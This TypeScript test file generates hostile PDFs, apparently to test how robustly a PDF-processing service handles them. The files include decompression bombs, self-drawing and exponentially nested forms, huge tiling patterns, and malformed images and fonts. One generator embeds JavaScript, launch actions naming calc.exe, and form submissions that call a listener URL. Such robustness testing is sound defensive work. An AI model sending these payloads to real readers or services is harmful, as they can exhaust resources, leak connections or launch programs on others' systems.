import { constants, deflateRawSync, deflateSync } from "node:zlib";
import type { PdfWriter } from "../adversarial/write-pdf.ts";
import { harmless, heavy, noise, type HostileFile } from "./hostile.ts";
import { hello, onePage, resumeWith } from "./pdf-of.ts";

const mb = 1_048_576;

/**
 * A compressed stream of spaces. It consists of equal compressed pieces, so that creating it is cheap. The checksum at its end is
 * wrong, but a PDF library notices that too late.
 */
function spaces(size: number): Buffer {
  const piece = deflateRawSync(Buffer.alloc(mb, " "), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const pieces = Array.from({ length: Math.round(size / mb) }, () => piece);
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...pieces, Buffer.from([3, 0, 0, 0, 0, 1])]);
}

function bomb(pdf: PdfWriter, bytes: Buffer, filters: string): number {
  const head = Buffer.from(`<< /Filter [${filters}] /Length ${bytes.length} >>\nstream\n`);
  return pdf.add(Buffer.concat([head, bytes, Buffer.from("\nendstream")]));
}

const image = (
  pdf: PdfWriter,
  { width, height, data, filter }: { width: number; height: number; data: Buffer; filter: string },
) =>
  pdf.add(
    Buffer.concat([
      Buffer.from(
        `<< /Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent ${filter === "FlateDecode" ? 1 : 8} /Filter /${filter} /Length ${data.length} >>\nstream\n`,
      ),
      data,
      Buffer.from("\nendstream"),
    ]),
  );

const withImage = (of: { width: number; height: number; data: () => Buffer; filter: string }) => () =>
  onePage((pdf) => ({
    resources: `/XObject << /I ${image(pdf, { ...of, data: of.data() })} 0 R >>`,
    contents: pdf.stream({ data: `${hello} q 200 0 0 200 60 300 cm /I Do Q` }),
  }));

const form = (resources: string) => `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${resources} >>`;

function selfForm(): Buffer {
  return onePage((pdf) => {
    const self = pdf.reserve();
    pdf.stream({ dict: form(`/XObject << /X ${self} 0 R >>`), data: "/X Do" }, self);
    return { resources: `/XObject << /X ${self} 0 R >>`, contents: pdf.stream({ data: `${hello} /X Do` }) };
  });
}

/** A tower of forms: ten levels, each drawn ten times by the level above. */
function formTower(inner: string): Buffer {
  return onePage((pdf) => {
    let below = pdf.stream({ dict: form(""), data: inner });
    for (let level = 0; level < 10; level++)
      below = pdf.stream({ dict: form(`/XObject << /X ${below} 0 R >>`), data: "/X Do ".repeat(10) });
    return { resources: `/XObject << /X ${below} 0 R >>`, contents: pdf.stream({ data: `${hello} /X Do` }) };
  });
}

const typeThree = (): Buffer =>
  onePage((pdf) => {
    const font = pdf.reserve();
    const glyph = pdf.stream({ data: "500 0 0 0 500 500 d1 BT /T 12 Tf (a) Tj ET" });
    pdf.set(
      font,
      `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 500 500] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /a ${glyph} 0 R >> ` +
        `/Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [500] /Resources << /Font << /T ${font} 0 R >> >> >>`,
    );
    return {
      resources: `/XObject << >>`,
      contents: pdf.stream({ data: hello }),
      page: `/Rotate 0 /Resources << /Font << /F1 ${font} 0 R /T ${font} 0 R >> >>`,
    };
  });

const tinyTiles = (): Buffer =>
  onePage((pdf) => {
    const tile = pdf.stream({
      dict: "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 100 100] /XStep 0.001 /YStep 0.001 /Resources << >>",
      data: "1 0.9 0.9 rg 0 0 100 100 re f",
    });
    return {
      resources: `/Pattern << /P ${tile} 0 R >>`,
      contents: pdf.stream({ data: `q /Pattern cs /P scn 0 0 595 600 re f Q ${hello}` }),
    };
  });

const unmapped = (): Buffer =>
  onePage((pdf) => {
    const below =
      "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Nothing /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>";
    const font = pdf.add(
      `<< /Type /Font /Subtype /Type0 /BaseFont /Nothing /Encoding /Identity-H /DescendantFonts [${pdf.add(below)} 0 R] >>`,
    );
    return {
      page: `/Resources << /Font << /F1 ${font} 0 R >> >>`,
      contents: pdf.stream({ data: "BT /F1 12 Tf 60 700 Td <00260027002800290030003100320033> Tj ET" }),
    };
  });

const brokenFont = (): Buffer =>
  onePage((pdf) => {
    const data = pdf.stream({
      dict: "/Length1 4000000",
      data: Buffer.concat([Buffer.from([0, 1, 0, 0, 0, 255]), noise(3 * mb)]),
    });
    const about = pdf.add(
      `<< /Type /FontDescriptor /FontName /Broken /Flags 32 /FontBBox [0 0 1 1] /FontFile2 ${data} 0 R >>`,
    );
    const font = pdf.add(
      `<< /Type /Font /Subtype /TrueType /BaseFont /Broken /Encoding /WinAnsiEncoding /FirstChar 32 /LastChar 33 /Widths [500 500] /FontDescriptor ${about} 0 R >>`,
    );
    return { page: `/Resources << /Font << /F1 ${font} 0 R >> >>`, contents: pdf.stream({ data: hello }) };
  });

const calling = (listener: string): Buffer =>
  resumeWith((sheet) => {
    const js = `app.launchURL('${listener}/js'); this.submitForm('${listener}/form');`;
    sheet.catalog += ` /OpenAction << /S /JavaScript /JS (${js}) >> /AA << /WC << /S /URI /URI (${listener}/close) >> >>`;
    sheet.page += ` /AA << /O << /S /Launch /F (${listener}/launch) /Win << /F (calc.exe) >> >> >>`;
    sheet.annotations.push(
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /SubmitForm /F (${listener}/submit) >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToR /F << /FS /URL /F (${listener}/remote.pdf) >> /D [0 /Fit] >> >>`,
    );
  });

const elsewhere = (listener: string): Buffer =>
  onePage((pdf) => {
    const away = pdf.add(
      `<< /Length 0 /F << /FS /URL /F (${listener}/stream) >> /Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray >>\nstream\n\nendstream`,
    );
    return {
      resources: `/XObject << /I ${away} 0 R >>`,
      contents: pdf.stream({ data: `${hello} /I Do` }),
      catalog: `/AcroForm << /XFA ${pdf.stream({ data: `<xdp><image href="${listener}/xfa"/></xdp>` })} 0 R /Fields [] >>`,
    };
  });

export const pdfContents: HostileFile[] = [
  {
    name: "a page of 500 MB of spaces",
    bytes: () => onePage((pdf) => ({ contents: bomb(pdf, spaces(500 * mb), "/FlateDecode") })),
    may: heavy,
  },
  {
    name: "a doubly compressed stream of 500 MB",
    bytes: () =>
      onePage((pdf) => ({ contents: bomb(pdf, deflateSync(spaces(500 * mb)), "/FlateDecode /FlateDecode") })),
    may: heavy,
  },
  {
    name: "a doubly run-length encoded stream of 128 MB",
    bytes: () =>
      onePage((pdf) => ({
        contents: bomb(pdf, deflateSync(Buffer.alloc(2 * mb, Buffer.from([129, 32]))), "/FlateDecode /RunLengthDecode"),
      })),
    may: ["read", "noText", ...heavy],
  },
  {
    name: "a font of 300 MB",
    bytes: () =>
      onePage((pdf) => {
        const data = bomb(pdf, spaces(300 * mb), "/FlateDecode");
        const about = pdf.add(
          `<< /Type /FontDescriptor /FontName /Big /Flags 32 /FontBBox [0 0 1 1] /FontFile2 ${data} 0 R >>`,
        );
        const font = pdf.add(
          `<< /Type /Font /Subtype /TrueType /BaseFont /Big /FontDescriptor ${about} 0 R /FirstChar 32 /LastChar 32 /Widths [500] >>`,
        );
        return { page: `/Resources << /Font << /F1 ${font} 0 R >> >>`, contents: pdf.stream({ data: hello }) };
      }),
    may: ["read", "noText", ...heavy],
  },
  {
    name: "a million lines of text",
    bytes: () =>
      onePage((pdf) => ({
        contents: pdf.stream({ data: `BT /F1 9 Tf ${"1 0 0 1 60 700 Tm (Giulia Ferraris) Tj ".repeat(1_000_000)} ET` }),
      })),
    may: ["read", ...heavy],
  },
  {
    name: "half a million saved graphics states",
    bytes: () => onePage((pdf) => ({ contents: pdf.stream({ data: `${"q ".repeat(500_000)}${hello}` }) })),
    may: ["read", ...heavy],
  },
  { name: "a form that draws itself", bytes: selfForm, may: ["read", ...heavy] },
  {
    name: "forms that draw each other 10¹⁰ times",
    bytes: () => formTower("0 0 m 1 1 l S"),
    may: ["read", ...heavy, "timeout"],
  },
  {
    name: "forms with text that draw each other 10¹⁰ times",
    bytes: () => formTower("BT /F1 9 Tf 60 60 Td (a) Tj ET"),
    may: ["read", ...heavy, "timeout"],
  },
  { name: "a Type 3 font whose glyphs draw themselves", bytes: typeThree, may: ["read", "noText", ...heavy] },
  { name: "a pattern of 10¹¹ tiles", bytes: tinyTiles, may: ["read", ...heavy, "timeout"] },
  {
    name: "an image that claims a size of 30,000 × 30,000",
    bytes: withImage({
      width: 30_000,
      height: 30_000,
      data: () => deflateSync(Buffer.alloc(100)),
      filter: "FlateDecode",
    }),
    may: ["read", ...heavy],
  },
  {
    name: "an image of 30,000 × 30,000 pixels",
    bytes: withImage({
      width: 30_000,
      height: 30_000,
      data: () => deflateSync(Buffer.alloc(30_000 * 3_750)),
      filter: "FlateDecode",
    }),
    may: ["read", ...heavy],
  },
  {
    name: "random bytes as a JBIG2 image",
    bytes: withImage({ width: 2_000, height: 2_000, data: () => noise(200_000), filter: "JBIG2Decode" }),
    may: ["read", ...heavy],
  },
  {
    name: "random bytes as a JPEG 2000 image",
    bytes: withImage({
      width: 2_000,
      height: 2_000,
      data: () => Buffer.concat([Buffer.from("0000000c6a5020200d0a870a", "hex"), noise(200_000)]),
      filter: "JPXDecode",
    }),
    may: ["read", ...heavy],
  },
  {
    name: "random bytes as a JPEG image of 65,500 lines",
    bytes: withImage({
      width: 65_500,
      height: 65_500,
      data: () => Buffer.concat([Buffer.from("ffd8ffc0000b08ffdcffdc01011100", "hex"), noise(200_000)]),
      filter: "DCTDecode",
    }),
    may: ["read", ...heavy],
  },
  {
    name: "letters of 100,000 points",
    bytes: () =>
      onePage((pdf) => ({
        contents: pdf.stream({ data: `BT /F1 100000 Tf 60 700 Td (Giulia) Tj /F1 1e30 Tf (Ferraris) Tj ET ${hello}` }),
      })),
    may: ["read", ...heavy],
  },
  {
    name: "coordinates beyond the range of numbers",
    bytes: () =>
      onePage((pdf) => ({
        contents: pdf.stream({
          data: `q 1e308 0 0 1e308 1e308 -1e308 cm BT /F1 12 Tf (Giulia) Tj ET Q 99999999999999999999999 w ${hello}`,
        }),
      })),
    may: ["read", ...heavy],
  },
  { name: "random bytes as a font", bytes: brokenFont, may: ["read", "noText", ...heavy] },
  { name: "a font without a mapping to Unicode", bytes: unmapped, may: ["read", "noText"] },
  { name: "scripts, launch actions and forms that open connections", bytes: calling, may: harmless },
  { name: "a stream in an external file", bytes: elsewhere, may: ["read", "damaged"] },
];
